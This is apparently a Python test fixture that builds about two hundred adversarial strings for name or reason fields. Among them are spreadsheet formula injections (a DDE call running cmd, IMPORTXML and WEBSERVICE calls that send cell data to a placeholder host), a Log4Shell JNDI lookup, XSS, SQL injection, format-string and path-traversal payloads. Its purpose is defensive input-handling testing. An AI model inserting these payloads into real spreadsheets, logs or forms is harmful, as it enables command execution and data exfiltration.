"""Two hundred strings that people put where a name or a reason belongs, to see what a reader makes of them."""

from __future__ import annotations

import itertools

_FORMULAS = ["1+1", "1+cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"y\")", "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
             "DDE(\"cmd\";\"/C calc\")", "SUM(A1:A9)", "WEBSERVICE(\"http://x\")", "A1", "-2", "@SUM(1)"]  # fmt: skip
_TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "%", "|"]
_BEFORE = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", '"', "'", ";", ",", "a;", 'x";',
           "a\t", "a\n", 'a"\n', "\x00", "\x1b[31m", "\u202e"]  # fmt: skip
_REST = [
    "\x1b]0;title\x07", "\x1b[2J", "a\u202egnp.exe", "a\u2066b\u2069", "\u2028line", "\u2029", "\x85next", "\x0b\x0c",
    "</script><script>alert(1)</script>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://x/a}", "%s%n%x", "\\", "\\\\", '\\"',
    '"', '""', "'", "\\n", "\\u0000", "{\"person\": \"x\"}", "}\n{\"end\": 1}", "\ud800", "\udfff\ud800", "\uffff",
    "é" * 300, "🏳️‍🌈", "a" * 5000, "\x7f", "\x00\x00", "2026-12-02T00:00:00\nfake=1", "CON", "../../etc/passwd", "\x1e",
    "\\.", "\x01\x02", "NULL", "null", "NaN", "0x10", "1e309", "=\x00cmd", "\\x1e", "a\\\\\x1e{}",
]  # fmt: skip


def strings() -> list[str]:
    """Every trigger behind everything that may stand before it, and what confuses other readers."""
    pairs = itertools.product(_BEFORE, _TRIGGERS)
    made = [f"{before}{sign}{_FORMULAS[n % len(_FORMULAS)]}" for n, (before, sign) in enumerate(pairs)]
    return made + _REST
